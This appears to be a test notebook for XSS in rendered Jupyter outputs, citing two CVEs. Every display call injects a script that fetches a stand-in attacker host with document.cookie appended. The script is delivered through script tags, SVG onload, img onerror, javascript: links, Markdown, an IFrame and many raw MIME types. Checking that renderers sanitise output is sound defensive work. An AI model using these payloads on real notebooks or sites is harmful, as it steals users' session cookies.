# ---
# note: displays scripts as HTML, SVG, JavaScript, widgets' state, Vega, JSON, PDF and Markdown
# kind: scripts
# known_from: cross-site scripting in rendered notebooks (CVE-2021-32862, CVE-2021-32797)
# ---
# %% judged +top
from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display

run = "fetch('https://canary-of-an-attacker.example/' + document.cookie)"
svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><script>{run}</script></svg>"
display(HTML(f'<script>{run}</script><img src=x onerror="{run}">'))
display(SVG(data=svg), Javascript(run), IFrame("https://canary-of-an-attacker.example/", 9, 9))
display(Markdown(f"<script>{run}</script> [x](javascript:{run}) ![x](x){{onerror={run}}}"))
for kind in ("application/javascript", "text/javascript", "application/ecmascript", "text/html"):
    display({kind: run if "script" in kind else f"<script>{run}</script>"}, raw=True)
for kind in ("image/svg+xml", "application/xhtml+xml", "text/vnd.mermaid", "application/pdf"):
    display({kind: svg, "text/plain": "x"}, raw=True)
for kind in ("application/vnd.vegalite.v5+json", "application/geo+json", "application/json"):
    display({kind: {"url": "https://canary-of-an-attacker.example/", "x": svg}}, raw=True)
